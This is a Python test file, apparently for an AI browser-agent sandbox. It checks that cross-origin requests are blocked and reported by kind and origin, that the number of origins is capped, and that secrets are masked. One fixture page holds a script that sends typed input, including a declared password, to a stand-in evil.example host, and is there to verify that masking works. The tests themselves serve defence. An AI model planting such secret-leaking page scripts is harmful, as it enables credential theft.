"""Refused requests of pages: where and with which kind they are reported, and the limit on their number."""

from __future__ import annotations

from collections.abc import AsyncIterator
from pathlib import Path

import pytest
import pytest_asyncio

from envs.browser.chromium import Chromium
from envs.core.actions import ActionResult, Click, Goto, Type, Wait
from envs.core.tasks import TaskRef
from envs.security.blocked_requests import MAX_ORIGINS, OTHERS, BlockedOrigin, RequestKind, merge_blocked_origins
from envs.security.secrets import SecretVault
from envs.suites.open_web import OpenEnvironment, OpenTaskSuite
from tests.envs.browser.browsing import QUICK, Opener, click, ref_of, visit
from tests.envs.browser.web import Answer, Web

pytestmark = [pytest.mark.browser, pytest.mark.asyncio(loop_scope="session")]

TASK = TaskRef(suite="open", name="task")
CDN = "https://cdn.example"

KINDS: list[tuple[str, str, RequestKind]] = [
    ("script", f"<script src='{CDN}/a.js'></script>", "script"),
    ("module", f"<script type=module src='{CDN}/a.js'></script>", "script"),
    ("stylesheet", f"<link rel=stylesheet href='{CDN}/a.css'>", "stylesheet"),
    ("image", f"<img src='{CDN}/a.png'>", "image"),
    ("font", f"<style>@font-face {{ font-family: F; src: url({CDN}/f) }}</style><p style='font-family: F'>x", "font"),
    ("video", f"<video src='{CDN}/a.mp4' preload=auto></video>", "media"),
    ("frame", f"<iframe src='{CDN}/'></iframe>", "frame"),
    ("fetch", f"<script>fetch('{CDN}/').catch(() => 0)</script>", "fetch"),
    ("xhr", f"<script>const x = new XMLHttpRequest(); x.open('GET', '{CDN}/'); x.send()</script>", "fetch"),
    ("beacon", f"<script>navigator.sendBeacon('{CDN}/', 'x')</script>", "fetch"),
    ("event source", f"<script>new EventSource('{CDN}/')</script>", "fetch"),
    ("web socket", "<script>new WebSocket('wss://cdn.example/')</script>", "websocket"),
]


@pytest_asyncio.fixture(loop_scope="session")
async def environment(guarded: Chromium, web: Web, tmp_path: Path) -> AsyncIterator[OpenEnvironment]:
    made = await OpenTaskSuite(guarded, tmp_path, QUICK, instruction="look", url=web.url()).environment()
    yield made
    await made.close()


@pytest.mark.parametrize(("html", "kind"), [case[1:] for case in KINDS], ids=[case[0] for case in KINDS])
async def test_code_of_another_origin_on_the_start_page_is_reported_by_the_first_observation(
    environment: OpenEnvironment, web: Web, html: str, kind: RequestKind
) -> None:
    web["/"] = f"<p>home</p>{html}"
    await environment.reset(TASK)
    assert (await environment.observe()).blocked == (BlockedOrigin(origin=CDN, requests=1, kinds=(kind,), allow=CDN),)
    assert (await environment.observe()).blocked == (), "reported once"


async def test_each_origin_is_counted_with_all_its_kinds(environment: OpenEnvironment, web: Web) -> None:
    scripts = "".join(f"<script src='{CDN}/{i}.js'></script>" for i in range(3))
    web["/"] = (
        f"<p>home</p>{scripts}<link rel=stylesheet href='{CDN}/s.css'><img src='http://other.example:8080/x.png'>"
    )
    await environment.reset(TASK)
    blocked = {one.origin: one for one in (await environment.observe()).blocked}
    assert blocked[CDN] == BlockedOrigin(origin=CDN, requests=4, kinds=("script", "stylesheet"), allow=CDN)
    other = blocked["http://other.example:8080"]
    assert (other.requests, other.kinds, other.allow) == (1, ("image",), "http://other.example:8080")


async def test_what_an_action_began_is_in_its_result_and_what_came_later_in_the_next_observation(
    opener: Opener, web: Web
) -> None:
    session = await opener()
    web["/"] = f"<button id=b>Go</button><script>b.onclick = () => {{ new Image().src = '{CDN}/now' }}</script>"
    await visit(session, web.url())
    result = await click(session, "Go")
    assert [(one.origin, one.kinds) for one in result.blocked_requests] == [(CDN, ("image",))]
    await session.page.evaluate("fetch('https://late.example/').catch(() => 0)")
    seen = await session.observe()
    assert [(one.origin, one.kinds) for one in seen.blocked] == [("https://late.example", ("fetch",))]


async def test_a_link_to_another_origin_is_reported_as_a_document(opener: Opener, web: Web) -> None:
    session = await opener()
    web["/"] = f"<p>home</p><a href='{CDN}/x'>Go</a>"
    await visit(session, web.url())
    result = await click(session, "Go")
    assert [(one.origin, one.kinds, one.allow) for one in result.blocked_requests] == [(CDN, ("document",), CDN)]


async def test_a_redirected_load_is_reported_at_its_target(environment: OpenEnvironment, web: Web) -> None:
    web["/"] = "<p>home</p><img src=/to>"
    web["/to"] = Answer(status=302, headers={"Location": f"{CDN}/x.png"})
    await environment.reset(TASK)
    assert [(one.origin, one.kinds) for one in (await environment.observe()).blocked] == [(CDN, ("image",))]


async def test_origins_without_end_are_counted_together(environment: OpenEnvironment, web: Web) -> None:
    number = MAX_ORIGINS + 20
    web["/"] = f"<script>for (let i = 0; i < {number}; i++) new Image().src = `https://h${{i}}.evil.example/`</script>"
    await environment.reset(TASK)
    first = (await environment.observe()).blocked
    await environment.execute(Wait())
    blocked = merge_blocked_origins((*first, *(await environment.observe()).blocked))
    assert len(blocked) <= MAX_ORIGINS + 1
    assert blocked[-1].origin == OTHERS and blocked[-1].allow == ""
    assert sum(one.requests for one in blocked) == number


async def test_an_origin_is_reported_as_the_browser_parses_it(environment: OpenEnvironment, web: Web) -> None:
    web["/"] = "<img src='//BÜCHER.example\\x'><img src='https://２.2.0x202/'>"
    await environment.reset(TASK)
    origins = {one.origin for one in (await environment.observe()).blocked}
    assert origins == {"http://xn--bcher-kva.example", "https://2.2.2.2"}


async def test_a_secret_in_the_name_of_a_host_is_masked(guarded: Chromium, web: Web, tmp_path: Path) -> None:
    vault = SecretVault.declare(["PASSWORD=env:PW"], web.url(), {"PW": "Correct-Horse-1"})
    environment = await OpenTaskSuite(
        guarded, tmp_path, QUICK, instruction="x", url=web.url(), vault=vault
    ).environment()
    web["/"] = "<input id=q aria-label=Q><script>q.oninput = () => fetch(`https://${q.value}.evil.example/`)</script>"
    await environment.reset(TASK)
    seen = await environment.observe()
    result = await environment.execute(Type(ref=ref_of(seen, "Q"), text="<secret>PASSWORD</secret>"))
    later = await environment.observe()
    blocked = (*result.blocked_requests, *later.blocked)
    assert blocked, "the page sent nothing: this would prove nothing"
    for one in blocked:
        assert "correct-horse" not in one.model_dump_json().lower()
        assert one.origin == "https://<secret>PASSWORD</secret>.evil.example"
    await environment.close()


async def test_sessions_of_one_boundary_tell_their_own(
    opener: Opener, web: Web, guarded: Chromium, tmp_path: Path
) -> None:
    session = await opener()
    web["/"] = f"<img src='{CDN}/x.png'>"
    result = await session.execute(Goto(url=web.url()))
    assert [one.origin for one in result.blocked_requests] == [CDN]
    second = await guarded.session(QUICK, session.boundary, tmp_path)
    assert (await second.observe()).blocked == ()
    await second.close()


async def test_a_trace_that_holds_the_origins_alone_is_read() -> None:
    """Traces from before kinds were recorded."""
    old = ActionResult.model_validate({"status": "ok", "blocked_requests": ["http://evil.example"]})
    assert old.blocked_requests == (BlockedOrigin(origin="http://evil.example", allow="http://evil.example"),)
    assert ActionResult.model_validate_json(old.model_dump_json()) == old


async def test_a_subresource_rule_opens_no_page(guarded: Chromium, tmp_path: Path, web: Web) -> None:
    """By link, by address and in a frame; passive loads are allowed."""
    other = f"http://localhost:{web.port}"
    async with Chromium.launch(own_tls=True) as chromium:
        settings = QUICK.model_copy(update={"allow": ("subresources:localhost",)})
        environment = await OpenTaskSuite(chromium, tmp_path, settings, instruction="x", url=web.url()).environment()
        web["/app.js"] = "b.textContent = 'made by a script'"
        web["/secret"] = "<p>secret</p>"
        web["/"] = (
            f"<button id=b></button><script src='{other}/app.js'></script><a href='{other}/secret'>Go</a>"
            f"<iframe src='{other}/secret'></iframe>"
        )
        await environment.reset(TASK)
        seen = await environment.observe()
        assert "made by a script" in seen.text and "secret" not in seen.text.replace("/secret", "")
        assert [(one.origin, one.requests, one.kinds) for one in seen.blocked] == [(other, 1, ("frame",))]
        followed = await environment.execute(Click(ref=ref_of(seen, "Go")))
        typed = await environment.execute(Goto(url=f"{other}/secret"))
        assert (followed.status, typed.status) == ("blocked", "blocked")
        assert environment.session.url == web.url()
        assert web.hits("/secret") == 0 and web.hits("/app.js") == 1
        await environment.close()
